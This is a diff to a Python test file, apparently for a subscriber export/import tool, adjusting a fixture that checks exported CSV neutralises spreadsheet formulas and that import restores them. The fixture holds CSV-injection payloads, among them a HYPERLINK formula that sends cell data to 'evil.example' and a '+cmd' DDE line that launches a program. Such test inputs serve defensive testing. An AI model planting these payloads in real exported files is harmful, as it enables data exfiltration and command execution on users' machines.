@@ -213,7 +213,7 @@ def test_export_to_a_file_has_a_bom_and_round_trips(project, tmp_path, cli):
 FORMULAS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "organisation": "+cmd|' /C calc'!A0",
-    "language": "-2+3",
+    "source": "-2+3",  # (a language is only ever a code: cy, en or empty)
     "note": "@SUM(1+1)",
     "quoted": "'=already quoted",
 }
@@ -225,7 +225,7 @@ def test_export_neutralises_formulas_and_import_restores_them_exactly(project, t
             "-dash@example.org",
             name=FORMULAS["name"],
             organisation=FORMULAS["organisation"],
-            language=FORMULAS["language"],
+            source=FORMULAS["source"],
         )
         store.db.execute(
             "UPDATE subscribers SET attributes = ?",
